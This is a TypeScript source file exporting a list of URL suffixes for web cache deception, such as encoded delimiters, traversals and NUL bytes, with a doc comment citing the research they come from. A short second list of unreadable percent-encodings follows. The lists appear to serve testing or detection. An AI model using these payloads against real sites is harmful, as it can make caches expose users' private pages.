const suffixes = ['/x.css', ';x.css', '.css', '/.css', '/;x.css', '%2Fx.css', '%2fx.css', '%3Bx.css', '%23x.css', '%3Fx.css', '%3F.css', '%00.css', '%00x.css', '%0Ax.css', '%0a.js', '%0D%0A.css', '%09.css', '%20.css', '%2E.css', '%5Cx.css', '\\x.css', '/..%2Fx.css', '/%2e%2e/x.css', '/..%5Cx.css', '/../x.css', '/./x.css', '//x.css', '/%2Fx.css', '%252Fx.css', '%253Bx.css', '%2500.css', '%253Fx.css', '%25%32%46x.css', '/x.css/', '/x.css/.', '/x.css%00', '.', '..', '%2E', '%2e%2e', '/', '//', '/%2E', '/.', ';', ';jsessionid=1', ';a=b.css', ';a=b/x.css', '%3Ba=b', ',x.css', '%2Cx.css', '.avif', '.ico', ';.avif', ',.ico', '%3f.avif', '%23.ico', '%2f..%2f..%2fstatic%2fx.js', '/..;/x.css', '/%2e%2e%2fstatic/x.css', '..%2fx.css', '%252e%252e%252fx.css', '/favicon.ico', '/index.html', '/sitemap.xml', '/resources/x.js', '/assets/x.css', '~x.css', '!x.css', '$x.css', '@x.css', '*.css', '&x.css', '+.css', '=.css', "'.css", '(.css', '%E2%80%A8.css', '.js', '/a.js', '/x.png', '/x.svg', '/x.ico', '/x.woff2', '/robots.txt', '/static/x.css', '/%C3%A9.css']; // prettier-ignore

/**
 * What web cache deception appends to the URL of a private page, so that a cache takes it for a file's and the application for
 * the page's: delimiters, traversals, NUL, and each of them encoded once and twice (Omer Gil 2017; Gil, Mirheidari and others,
 * "Cached and Confused", 2020; PortSwigger, "Gotta cache 'em all", 2024).
 */
export const deceptions: readonly string[] = suffixes;

/** The same, where what is appended is no percent-encoding: a request that cannot be read names nothing at all. */
export const unreadable: readonly string[] = ['%C0%AFx.css', '%u002Fx.css', '%', '%2', '%GG.css'];
